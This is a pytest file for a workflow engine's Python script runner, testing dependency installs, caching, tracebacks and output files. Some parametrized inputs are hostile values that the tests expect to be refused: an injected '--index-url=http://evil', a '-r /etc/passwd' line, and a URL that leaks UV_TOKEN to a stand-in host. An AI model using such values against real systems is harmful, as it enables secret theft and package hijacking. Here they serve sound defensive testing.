"""Python scripts: packages installed once for each list, on the process runner."""

import os
import time
import zipfile

import pytest
from sqlalchemy import select

from app.database import schema
from app.plugin.task import TaskFailed
from tests.conftest import make_driver
from workers.script import dependencies

FLOW = """
id: python
namespace: company.team
tasks:
  - id: run
    type: io.kestra.plugin.scripts.python.{type}
    taskRunner: {{type: io.kestra.plugin.core.runner.Process}}
{body}
"""


@pytest.fixture
def driver(tmp_path):
    made = make_driver(f"sqlite:///{tmp_path / 'test.db'}", tmp_path)
    yield made
    made.process.stop()
    made.rt.database.close()


@pytest.fixture
def wheel(tmp_path):
    """A package that lies on this machine: no index is asked."""
    path = tmp_path / "answering-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("answering.py", "ANSWER = 42\n")
        meta = "Metadata-Version: 2.1\nName: answering\nVersion: 1.0\n"
        archive.writestr("answering-1.0.dist-info/METADATA", meta)
        tags = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        archive.writestr("answering-1.0.dist-info/WHEEL", tags)
        record = "answering.py,,\nanswering-1.0.dist-info/METADATA,,\n"
        record += "answering-1.0.dist-info/WHEEL,,\nanswering-1.0.dist-info/RECORD,,\n"
        archive.writestr("answering-1.0.dist-info/RECORD", record)
    return path


def script(driver, lines, more=""):
    body = "".join(f"    {line}\n" for line in [*more.splitlines(), "script: |"])
    return driver.run(
        FLOW.format(type="Script", body=body + "".join(f"      {x}\n" for x in lines))
    )


def test_dependencies_are_installed_once_and_imported(driver, wheel):
    more = f"dependencies: ['answering @ file://{wheel}']"
    lines = ["import answering", "print(answering.ANSWER)"]

    first = script(driver, lines, more)
    second = script(driver, lines, more)

    assert (driver.state(first), driver.state(second)) == ("SUCCESS", "SUCCESS")
    assert "42" in driver.messages(first)
    assert "the dependencies are installed already" in driver.messages(second)


def test_commands_see_the_dependencies_too(driver, wheel):
    body = f"""    dependencies: ['answering @ file://{wheel}']
    packageManager: PIP
    commands: ['python3 -c "import answering; print(answering.ANSWER)"']"""

    execution = driver.run(FLOW.format(type="Commands", body=body))

    assert "42" in driver.messages(execution)


def test_a_dependency_that_is_not_there_fails_with_the_reason(driver, tmp_path):
    execution = script(driver, ["print(1)"], f"dependencies: ['none @ file://{tmp_path}/none.whl']")

    assert driver.state(execution) == "FAILED"
    assert "could not be installed" in " ".join(driver.messages(execution))
    assert not [p for p in (tmp_path / "python").glob("*") if not p.name.startswith(".cache")]


def test_an_option_among_the_dependencies_is_refused(driver):
    execution = script(driver, ["print(1)"], "dependencies: ['--index-url=http://evil']")

    assert driver.state(execution) == "FAILED"
    assert "must not hold options" in " ".join(driver.messages(execution))


@pytest.mark.parametrize(
    "line",
    ["six\n-r /etc/passwd", " --index-url=http://evil", "x @ http://evil/${UV_TOKEN}", "a\\"],
)
def test_a_dependency_is_one_requirement_and_shows_no_variable_of_the_worker(line):
    with pytest.raises(TaskFailed, match="`dependencies`"):
        dependencies.install(None, ["six", line], "3.11", is_cached=True, is_foreign=False)


@pytest.mark.parametrize("is_shared", [False, True])
def test_a_package_is_built_only_by_a_user_that_scripts_have_anyway(driver, tmp_path, is_shared):
    """A build runs what the package says, and the worker's user is more than a script's."""
    settings = driver.rt.settings.model_copy(update={"runners_process_shared_user": is_shared})
    object.__setattr__(driver.rt, "settings", settings)
    trace, package = tmp_path / "trace", tmp_path / "package"
    package.mkdir()
    (package / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
        '[project]\nname = "package"\nversion = "1"\n'
    )
    (package / "b.py").write_text(f"open({str(trace)!r}, 'w')\n")

    execution = script(driver, ["print(1)"], f"dependencies: ['package @ file://{package}']")

    assert "could not be installed" in " ".join(driver.messages(execution))
    assert trace.exists() is is_shared


def test_literals_of_json_are_known_and_tracebacks_keep_their_lines(driver):
    execution = script(driver, ["assert true and not false and null is None", "", "1 / 0"])

    text = " ".join(driver.messages(execution))
    assert driver.state(execution) == "FAILED"
    assert ", line 3, in <module>" in text


def test_a_traceback_shows_the_first_line_as_it_was_written(driver):
    execution = script(driver, ["import no_such_module"])

    told = [line.strip() for line in "\n".join(driver.messages(execution)).splitlines()]
    assert "import no_such_module" in told


def test_json_that_a_script_evaluates_has_its_literals(driver):
    execution = script(driver, ["print(eval('tr' + 'ue'))"])

    assert driver.messages(execution)[-1] == "True"


def test_an_activated_environment_goes_first(driver):
    before = """beforeCommands:
  - python3 -m venv --without-pip venv
  - . venv/bin/activate"""

    execution = script(driver, ["import sys", "print(sys.prefix)"], before)

    assert driver.state(execution) == "SUCCESS"
    assert driver.messages(execution)[-1].endswith("/venv")


def test_output_files_are_named_by_their_path_and_stored_files_are_fetched(driver):
    text = """
id: files
namespace: company.team
tasks:
  - id: make
    type: io.kestra.plugin.scripts.shell.Commands
    taskRunner: {type: io.kestra.plugin.core.runner.Process}
    outputFiles: [out.txt]
    commands: ["echo made > {{ outputFiles['out.txt'] }}"]
  - id: read
    type: io.kestra.plugin.scripts.shell.Commands
    runner: PROCESS
    commands:
      - cat {{ outputs.make.outputFiles['out.txt'] }}
      - mkdir {{ outputDir }}/sub
      - echo kept > {{ outputDir }}/sub/x
"""
    execution = driver.run(text)

    found = driver.outputs(execution, "read")["outputFiles"]
    assert driver.messages(execution) == ["made"]
    assert driver.rt.storage.open(found["sub/x"]).read() == b"kept\n"


def test_dependencies_that_are_not_kept_go_with_the_script_and_are_no_outputs(driver, wheel):
    more = f"""dependencies: ['answering @ file://{wheel}']
dependencyCacheEnabled: false
outputFiles: ['**/*.py', made.txt]"""
    lines = ["import answering, os", "open('made.txt', 'w')", "print(answering.__file__)"]

    found = [script(driver, lines, more) for _ in range(2)]

    root = driver.rt.settings.data_dir
    assert [driver.state(one) for one in found] == ["SUCCESS", "SUCCESS"]
    assert [path.name for path in (root / "python").iterdir()] == [".cache"]
    assert not list((root / "work").iterdir())
    names = driver.outputs(found[1], "run")["outputFiles"]
    assert [name for name in names if not name.startswith("script-")] == ["made.txt"]


def test_packages_that_nobody_used_for_long_are_removed(driver, wheel):
    root = driver.rt.settings.data_dir / "python"
    long_ago = time.time() - 40 * 24 * 3600
    for name in ("unused", "used", ".half-built"):
        (root / name).mkdir(parents=True)
    for name in ("unused", ".half-built"):
        os.utime(root / name, (long_ago, long_ago))

    script(driver, ["import answering"], f"dependencies: ['answering @ file://{wheel}']")

    left = {path.name for path in root.iterdir()}
    assert {"used", ".cache"} < left
    assert not left & {"unused", ".half-built"}


def test_what_is_used_is_kept_and_its_time_is_measured(driver, wheel):
    more = f"dependencies: ['answering @ file://{wheel}']"
    first = script(driver, ["import answering"], more)
    root = driver.rt.settings.data_dir / "python"
    (folder,) = [path for path in root.iterdir() if path.name != ".cache"]
    os.utime(folder, (0, 0))

    second = script(driver, ["import answering"], more)

    assert folder.stat().st_mtime > time.time() - 60
    with driver.rt.database.reading() as tx:
        rows = {row.name: row.execution_id for row in tx.execute(select(schema.metrics))}
    assert rows == {"deps.cache.upload.duration": first, "deps.cache.download.duration": second}


def test_what_is_said_of_the_installation_of_uv_is_left_out(driver):
    execution = script(driver, ["print(1)"], "uvAutoInstallEnabled: false")

    assert driver.messages(execution)[0].startswith("uv comes with the worker")
